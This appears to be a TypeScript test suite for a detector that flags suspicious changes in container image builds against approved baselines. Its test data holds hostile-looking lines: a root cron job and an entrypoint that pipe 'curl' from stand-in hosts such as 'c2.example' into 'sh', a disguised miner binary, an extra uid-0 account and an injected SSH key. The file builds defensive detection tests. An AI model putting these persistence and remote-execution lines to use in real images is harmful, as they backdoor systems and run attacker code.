import { type BuildProfile } from '@dhi/profile';
import { Anomaly, type Severity } from '@dhi/contracts';
import { ANOMALY_KINDS, detectAnomalies, type AnomalyKind } from '../src/index.js';
import { deb, sha } from './support/debian-profile.js';
import { addPackage, approvedBaseline, benignBuild, setVersion } from './support/lineage.js';

const RANK: Record<Severity, number> = { info: 0, low: 1, medium: 2, high: 3, critical: 4 };

interface Case {
  kind: AnomalyKind;
  severity: Severity;
  change: (p: BuildProfile) => void;
  explanation: RegExp;
}

const CASES: Case[] = [
  {
    kind: 'package_added',
    severity: 'medium',
    change: (p) => addPackage(p, deb('openssh-server', '1:9.2p1-2+deb12u2', 'openssh')),
    explanation: /^openssh-server 1:9\.2p1-2\+deb12u2 \(deb\) was added; none of the 8 approved builds of this lineage had it$/,
  },
  {
    kind: 'package_removed',
    severity: 'low',
    change: (p) => void (p.packages = p.packages.filter((x) => x.name !== 'ca-certificates')),
    explanation: /^ca-certificates \(deb, last approved at 20230311\) was removed; all 8 approved builds of this lineage had it$/,
  },
  {
    kind: 'package_downgraded',
    severity: 'medium',
    change: (p) => setVersion(p, 'libssl3', '3.0.9-1'),
    explanation: /^libssl3 \(deb\) went down from 3\.0\.13-1~deb12u1 to 3\.0\.9-1; none of the 8 approved builds with it had a version this old$/,
  },
  {
    kind: 'package_major_jump',
    severity: 'medium',
    change: (p) => setVersion(p, 'express', '5.0.1'),
    explanation: /^express \(npm\) jumped from major version 4 \(4\.19\.2\) to 5 \(5\.0\.1\); none of the 8 approved builds with it had major 5$/,
  },
  {
    kind: 'file_modified',
    severity: 'high',
    change: (p) => p.integrity.modifiedPackageFiles.push({ path: '/usr/bin/ls', package: 'coreutils', expected: 'a1b2', actual: 'c3d4', algorithm: 'md5' }),
    explanation: /^\/usr\/bin\/ls differs from what package coreutils installed \(md5 expected a1b2, found c3d4\)/,
  },
  {
    kind: 'unowned_executable',
    severity: 'high',
    change: (p) => p.integrity.unownedSystemExecutables.push({ path: '/usr/sbin/kworkerd', sha256: sha('miner') }),
    explanation: /^\/usr\/sbin\/kworkerd is an executable in a system path that no package owns; none of the 8 approved builds/,
  },
  {
    kind: 'setuid_added',
    severity: 'high',
    change: (p) => void p.setuid.push('/usr/bin/find'),
    explanation: /^\/usr\/bin\/find has the setuid bit .*; none of the 8 approved builds of this lineage had it set$/,
  },
  {
    kind: 'setgid_added',
    severity: 'medium',
    change: (p) => void p.setgid.push('/usr/local/bin/report'),
    explanation: /^\/usr\/local\/bin\/report has the setgid bit .*; none of the 8 approved builds/,
  },
  {
    kind: 'world_writable_added',
    severity: 'high',
    change: (p) => void p.worldWritable.push('/etc/profile.d'),
    explanation: /^\/etc\/profile\.d is writable by every user; none of the 8 approved builds/,
  },
  {
    kind: 'user_added',
    severity: 'medium',
    change: (p) => void p.users.push({ name: 'svc', uid: 1001, gid: 1001, home: '/home/svc', shell: '/bin/bash' }),
    explanation: /^user svc \(uid 1001, shell \/bin\/bash\) was added; none of the 8 approved builds/,
  },
  {
    kind: 'uid0_extra',
    severity: 'high',
    change: (p) => void p.users.push({ name: 'toor', uid: 0, gid: 0, home: '/root', shell: '/bin/sh' }),
    explanation: /^user toor has uid 0, so it has root's privileges under another name/,
  },
  {
    kind: 'port_added',
    severity: 'medium',
    change: (p) => void p.config.exposedPorts.push('22/tcp'),
    explanation: /^port 22\/tcp is now exposed; none of the 8 approved builds of this lineage exposed it$/,
  },
  {
    kind: 'entrypoint_changed',
    severity: 'medium',
    change: (p) => void (p.config.entrypoint = ['/bin/sh', '-c', 'curl -s https://get.example/x | sh']),
    explanation: /^entrypoint changed from \["docker-entrypoint\.sh"\] to \["\/bin\/sh","-c",.*\]; none of the 8 approved builds/,
  },
  {
    kind: 'cmd_changed',
    severity: 'medium',
    change: (p) => void (p.config.cmd = ['node', '/app/worker.js']),
    explanation: /^cmd changed from \["node","\/app\/server\.js"\] to \["node","\/app\/worker\.js"\]; none of the 8/,
  },
  {
    kind: 'user_changed',
    severity: 'high',
    change: (p) => void (p.config.user = null),
    explanation: /^user changed from node to root \(no USER set\); none of the 8 approved builds of this lineage used it$/,
  },
  {
    kind: 'size_jump',
    severity: 'high',
    change: (p) => void (p.totalSize = Math.round(p.totalSize * 1.4)),
    explanation: /^image size [0-9.]+ MB is [34][0-9]% above the baseline median [0-9.]+ MB \(robust z [0-9.]+ over 8 approved builds\)$/,
  },
  {
    kind: 'file_count_jump',
    severity: 'medium',
    change: (p) => {
      p.fileCount += 1_200;
      p.filesPerTopDir['/opt'] = 1_200;
    },
    explanation: /^file count [0-9]+ files is 1[0-9]% above the baseline median .*; most of the change is in \/opt \(\+1200\)/,
  },
  {
    kind: 'cron_added',
    severity: 'high',
    change: (p) => void p.persistence.cron.push('/etc/cron.d/update: * * * * * root curl -s https://c2.example/x | sh'),
    explanation: /^cron entry "\/etc\/cron\.d\/update: \* \* \* \* \* root curl .*" was added .*; none of the 8 approved builds/,
  },
  {
    kind: 'systemd_unit_added',
    severity: 'medium',
    change: (p) => void p.persistence.systemdUnits.push('/etc/systemd/system/kworker.service'),
    explanation: /^systemd unit \/etc\/systemd\/system\/kworker\.service was added; none of the 8 approved builds/,
  },
  {
    kind: 'authorized_key_added',
    severity: 'high',
    change: (p) => void p.persistence.authorizedKeys.push('/root/.ssh/authorized_keys: ssh-ed25519 SHA256:Zm9vYmFy'),
    explanation: /^SSH key "\/root\/\.ssh\/authorized_keys: ssh-ed25519 SHA256:Zm9vYmFy" lets its holder log in; none of the 8/,
  },
];

describe('one anomalous build per kind against 8 approved builds', () => {
  const baseline = approvedBaseline(8);

  it('covers every kind but the cold-start one', () => {
    expect(new Set(CASES.map((c) => c.kind))).toEqual(new Set(ANOMALY_KINDS.filter((k) => k !== 'baseline_too_small')));
  });

  it.each(CASES)('$kind is found at $severity or above with its explanation', ({ kind, severity, change, explanation }) => {
    const profile = benignBuild(8);
    change(profile);
    const result = detectAnomalies({ profile, baseline, model: null });
    const found = result.anomalies.filter((a) => a.kind === kind && explanation.test(a.explanation));
    expect(found).toHaveLength(1);
    const anomaly = found[0]!;
    expect(RANK[anomaly.severity]).toBeGreaterThanOrEqual(RANK[severity]);
    expect(anomaly.suppressed).toBe(false);
    expect(anomaly.id).toMatch(/^anomaly-[0-9a-f]{24}$/);
    expect(Anomaly.safeParse(anomaly).success).toBe(true);
    // The same change in the next build is the same anomaly.
    const again = benignBuild(9);
    change(again);
    const next = detectAnomalies({ profile: again, baseline, model: null }).anomalies;
    expect(next.find((a) => a.kind === kind && explanation.test(a.explanation))?.id).toBe(anomaly.id);
    // Nothing else above low rides along (a new uid 0 account is also a new user, both are meant).
    const others = result.anomalies.filter((a) => a.kind !== kind && RANK[a.severity] > RANK.low);
    expect(others.map((a) => a.kind)).toEqual(kind === 'uid0_extra' ? ['user_added'] : []);
    expect(result.score).toBeGreaterThan(0);
  });
});
